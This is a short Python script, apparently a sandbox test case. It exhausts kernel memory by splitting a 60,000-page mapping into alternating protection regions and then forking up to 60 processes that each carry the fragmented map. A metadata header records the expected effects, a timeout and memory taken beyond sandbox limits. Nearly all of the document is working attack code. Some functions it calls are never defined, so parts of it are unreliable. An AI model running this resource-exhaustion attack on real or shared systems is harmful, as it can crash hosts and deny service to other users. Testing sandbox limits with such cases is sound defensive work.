"""Gives every second page of a stretch of memory other rights, in sixty processes, which takes no page but
a note of the kernel's for each."""

# /// attack
# ran = ["before total"]
# seen = ['your code (took more than|ran for longer)']
# opened = { "kernel's memory" = ["took what the sandbox keeps from it"] }
# ///
# %% before total
import ctypes
import mmap
import os
import time

PAGES, STARTED = 60_000, 0
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
BEGIN = libc.mmap(None, ctypes.c_size_t(PAGES << 12), mmap.PROT_READ, flags, -1, ctypes.c_long(0))
for place in range(BEGIN, BEGIN + (PAGES << 12), 8192):
    libc.mprotect(ctypes.c_void_p(place), ctypes.c_size_t(4096), 0)
with open("/proc/self/maps", "rb") as maps:
    NOTES = sum(1 for _ in maps)
if NOTES > 50_000:
    ran("before total")


# %% after total
try:
    for _ in range(60):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        STARTED += 1
except OSError:
    pass


# %% after scaled
time.sleep(4 if STARTED else 0)
if STARTED * NOTES > 3_000_000:  # of some 250 bytes each
    print("took " + ATTACK["process_tag"])
